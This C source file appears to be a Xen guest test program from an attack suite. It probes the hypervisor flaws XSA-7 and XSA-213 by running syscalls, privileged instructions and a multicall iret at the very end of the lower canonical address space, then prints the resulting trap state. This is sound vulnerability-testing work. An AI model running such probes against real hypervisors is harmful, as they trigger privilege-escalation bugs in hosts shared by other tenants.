/* ends: code in the last bytes of the lower half of the address space, of instructions that end there, cross its end or jump over it, so
 * that the address to go on at is not canonical: hypercalls, emulated instructions, exceptions, calls; in kernel mode and in user
 * mode. And a list of hypercalls in the middle of which is one that returns to user mode (iret). A broken hypervisor returns to such
 * an address with its own privilege (XSA-7), takes it for one of its own range, or carries out the rest of the list by the tables of
 * user mode (XSA-213). */
#define NAME "ends"
#include "../attack.h"

#include <xen/callback.h>

#define END 0x0000800000000000ul
#define LAST_PAGE (END - PAGE_SIZE)

static PAGE_ALIGNED uint8_t code[4096];
static PAGE_ALIGNED uint64_t l3[512], l2[512], l1[512];
static char stack[16384] __attribute__((aligned(16)));
static struct regs came;

static int any(struct regs *regs) {
  came = *regs;
  user_leave();
}

static void at_syscall(struct regs *regs) {
  came = *regs;
  user_leave();
}

static void hook(uint64_t *table, void *below) {
  table[511] = frame(mfn_of(below), RW | _PAGE_USER);
  if (below != code) set_page(below, frame(mfn_of(below), RO));
}

static void run(const char *what, const uint8_t *bytes, size_t n, uint64_t cs) {
  memcpy(code + sizeof code - n, bytes, n);
  came = (struct regs){.vector = 999};
  struct iret_context context = {.rip = END - n, .cs = cs, .rflags = 0x202, .rsp = (uint64_t)stack + 4096, .ss = FLAT_USER_SS};
  user_enter(&context);
  events_enable();
  printf(NAME ": %s: vector %lu, error 0x%lx, rip 0x%lx, cs 0x%lx, rax 0x%lx\n", what, came.vector, came.error, came.rip, came.cs & 0xffff, came.rax);
}

#define RUN(what, ...)                            \
  do {                                            \
    const uint8_t bytes[] = {__VA_ARGS__};        \
    run(what, bytes, sizeof bytes, cs);           \
  } while (0)

static void instructions(const char *mode, uint64_t cs) {
  printf(NAME ": -- in %s mode\n", mode);
  RUN("nop", 0x90);
  RUN("syscall", 0xb8, 17, 0, 0, 0, 0x31, 0xff, 0x0f, 0x05);
  RUN("half of a syscall", 0x31, 0xc0, 0x0f);
  RUN("int3", 0x31, 0xc0, 0xcc);
  RUN("int 0x80", 0x31, 0xc0, 0xcd, 0x80);
  RUN("clts", 0x31, 0xc0, 0x0f, 0x06);
  RUN("mov from cr0", 0x0f, 0x20, 0xc0);
  RUN("in", 0x31, 0xc0, 0xec);
  RUN("hlt", 0x31, 0xc0, 0xf4);
  RUN("load behind the end", 0x31, 0xc0, 0x48, 0x8b, 0x05, 0x10, 0, 0, 0);
}

/* RBX: selector for CS. The frame of the iret is the stack's at the multicall. */
__asm__(".pushsection .text\n"
        "in_list: pushq $0xe02b; push %rsp; pushq $0x202; push %rbx; pushq $landed; pushq $0; push %rcx; push %r11; pushq $0x1234\n"
        "mov $13, %eax; lea list(%rip), %rdi; mov $3, %esi; syscall; ud2\n"
        "landed: int3\n"
        ".popsection");
extern char in_list[], landed[];
struct multicall_entry list[3];

static void iret_in_list(const char *where, uint64_t cs) {
  for (unsigned i = 0; i < 3; i++) list[i] = (struct multicall_entry){.op = __HYPERVISOR_xen_version, .result = 777};
  list[1].op = __HYPERVISOR_iret;
  came = (struct regs){.vector = 999};
  struct iret_context context = {.rip = (uint64_t)in_list, .cs = FLAT_KERNEL_CS & ~3, .rflags = 0x202, .rsp = (uint64_t)stack + 4096, .ss = FLAT_KERNEL_SS};
  register uint64_t rbx __asm__("rbx") = cs;
  __asm__ volatile("" : "+r"(rbx));
  user_enter(&context);
  events_enable();
  printf(NAME ": iret to %s mode in a list: vector %lu, %s, cs 0x%lx, rax 0x%lx; before it 0x%lx, behind it %ld\n", where, came.vector,
         came.rip == (uint64_t)landed + 1 ? "landed" : "elsewhere", came.cs & 0xffff, came.rax, (long)list[0].result, (long)list[2].result);
}

void guest_main(void) {
  struct callback_register callback = {.type = CALLBACKTYPE_syscall, .address = (uint64_t)syscall_entry};
  HYPERVISOR_callback_op(CALLBACKOP_register, &callback);
  syscall_handler = at_syscall;
  for (unsigned vector = 0; vector < 20; vector++) trap_bind(vector, any);
  hypercall2(__HYPERVISOR_stack_switch, FLAT_KERNEL_SS, (uint64_t)stack + sizeof stack);
  show("the kernel's table for user mode", ext(MMUEXT_NEW_USER_BASEPTR, table_of(0, 4)));
  hook(l1, code);
  hook(l2, l1);
  hook(l3, l2);
  set_page(l3, frame(mfn_of(l3), RO));
  show("map the last page", update(entry_address((void *)LAST_PAGE, 4), frame(mfn_of(l3), RW | _PAGE_USER)));
  instructions("kernel", FLAT_KERNEL_CS & ~3);
  instructions("user", FLAT_USER_CS);
  iret_in_list("kernel", FLAT_KERNEL_CS & ~3);
  iret_in_list("user", FLAT_USER_CS);
  show("end", 0);
}
